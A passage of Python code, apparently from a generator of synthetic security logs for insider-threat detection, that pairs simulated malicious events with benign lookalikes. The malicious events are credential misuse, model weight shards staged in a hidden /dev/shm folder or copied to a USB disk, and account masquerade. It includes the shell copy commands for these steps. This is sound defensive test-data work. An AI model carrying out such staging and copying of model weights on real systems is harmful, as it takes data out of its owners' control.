                f"--resume {twin_project.root}/step-{step} --save {twin_project.root}",
                job,
            )  # fmt: skip
            self.emit.launch(t, node, proc)
            self.routine.load(
                t + SECOND_MS, node, proc, twin_project, step, range(len(twin_project.shard_sizes))
            )
        return _Made(
            bad=(svc.name, host,
                 (f"{svc.name}'s credentials read {project.name} on {host} with {tool} "
                  f"from {origin}.")),
            twin=(twin_svc.name, node,
                  f"{twin_svc.name} ran its usual job on the new node {node}."),
            bad_events=bad_events,
            twin_events=twin_events,
        )  # fmt: skip

    def staging_shm(self, case: _Case) -> _Made:
        bad = self.person(case.actor)
        project = self.own_project(bad)
        t = self.at_work(bad, case.day)
        step = project.latest(t).step
        count = len(project.shard_sizes)
        picked = sorted(self.rng.sample(range(count), self.rng.randint(1, count)))
        base = f"/dev/shm/.{bad.name}"  # noqa: S108 -- the simulated staging folder
        with self.record() as bad_events:
            proc = self.emit.interactive(
                bad, "/usr/bin/cp", f"cp {project.root}/step-{step}/model-* {base}/"
            )
            self.copies(
                proc, bad.dev_host, project, step, t,
                base, picked,
            )  # fmt: skip
        twin = self.person(case.twin_actor)
        twin_project = self.own_project(twin)
        t = self.at_work(twin, case.twin_day)
        node = self.routine.nodes(twin_project, case.twin_day, 1)[0]
        job = str(self.rng.randint(1_000_000, 9_999_999))
        with self.record() as twin_events:
            proc = self.emit.batch(
                twin.name, twin.uid, twin.python,
                f"{twin.python.rpartition('/')[2]} train.py --dataloader-workers 16 --shm-cache",
                job,
            )  # fmt: skip
            self.emit.launch(t, node, proc)
            for k in range(self.rng.randint(2, 5)):
                self.emit.write(
                    t + (k + 1) * 20 * SECOND_MS, node, proc,
                    f"/dev/shm/torch_{proc.pid}_{self.rng.getrandbits(32):08x}",  # noqa: S108
                    self.rng.randint(256 << 20, 4 << 30),
                )  # fmt: skip
        return _Made(
            bad=(bad.name, bad.dev_host,
                 f"{bad.name} staged {len(picked)} shards of {project.name} in /dev/shm."),
            twin=(twin.name, node, f"{twin.name}'s data loader cached batches in /dev/shm."),
            bad_events=bad_events,
            twin_events=twin_events,
        )  # fmt: skip

    def staging_removable(self, case: _Case) -> _Made:
        bad = self.person(case.actor)
        project = self.own_project(bad)
        t = self.at_work(bad, case.day)
        step = project.latest(t).step
        count = len(project.shard_sizes)
        picked = sorted(self.rng.sample(range(count), self.rng.randint(1, min(count, 4))))
        base = f"/media/{bad.name}/USB-DISK/models"
        with self.record() as bad_events:
            proc = self.emit.interactive(
                bad, "/usr/bin/cp", f"cp {project.root}/step-{step}/model-* {base}/"
            )
            self.copies(
                proc, bad.dev_host, project, step, t,
                base, picked,
            )  # fmt: skip
        twin = self.person(case.twin_actor)
        t = self.at_work(twin, case.twin_day)
        with self.record() as twin_events:
            proc = self.emit.interactive(
                twin, "/usr/bin/cp", f"cp logs/train.log /media/{twin.name}/USB/"
            )
            self.emit.launch(t, twin.dev_host, proc)
            self.emit.write(
                t + 2 * SECOND_MS, twin.dev_host, proc,
                f"/media/{twin.name}/USB/train-{case.twin_day}.log", self.rng.randint(10**5, 10**8),
            )  # fmt: skip
        return _Made(
            bad=(bad.name, bad.dev_host,
                 f"{bad.name} copied {len(picked)} shards of {project.name} to a USB disk."),
            twin=(twin.name, twin.dev_host, f"{twin.name} copied a training log to a USB disk."),
            bad_events=bad_events,
            twin_events=twin_events,
        )  # fmt: skip

    def masquerade(self, case: _Case) -> _Made:
        victim = self.person(case.actor)
        owner = self.person(case.other)
        disguised = dataclasses.replace(owner, name=victim.name, uid=victim.uid, switch=None)
        routine = self.routine
        t = self.at_work(owner, case.day)
        with self.record() as bad_events:
            for _ in range(self.rng.randint(2, 5)):
                routine.command(disguised, t + self.rng.randint(0, 90) * MINUTE_MS)
            routine.notebook(disguised, case.day, t + self.rng.randint(5, 60) * MINUTE_MS)
            if owner.train_rate and self.rng.random() < 0.6:  # noqa: PLR2004
                routine.training(disguised, case.day, t + self.rng.randint(30, 120) * MINUTE_MS)
            else:
                routine.notebook(disguised, case.day, t + self.rng.randint(60, 180) * MINUTE_MS)
        traveller = self.person(case.twin_actor)
        shift = self.rng.choice((-480, -300, 360, 480, 540))
        vpn = f"10.99.{self.rng.randint(0, 40)}.{self.rng.randint(2, 250)}"
        away = dataclasses.replace(traveller, workstation=vpn, offset=traveller.offset + shift)
        with self.record() as twin_events:
            for day in range(case.twin_day, case.twin_day + case.span):
                routine.workday(away, day, light=False)
            if not twin_events:
                routine.notebook(away, case.twin_day, self.at_work(away, case.twin_day))
        return _Made(
            bad=(victim.name, owner.dev_host,
                 (f"{victim.name}'s account was used in {owner.name}'s pattern "
                  "(hosts, hours, programs, assets).")),
            twin=(traveller.name, traveller.dev_host,
                  (f"{traveller.name} worked while travelling: VPN origin {vpn}, "
                   f"hours shifted {shift // 60} h.")),
            bad_events=bad_events,
            twin_events=twin_events,
        )  # fmt: skip
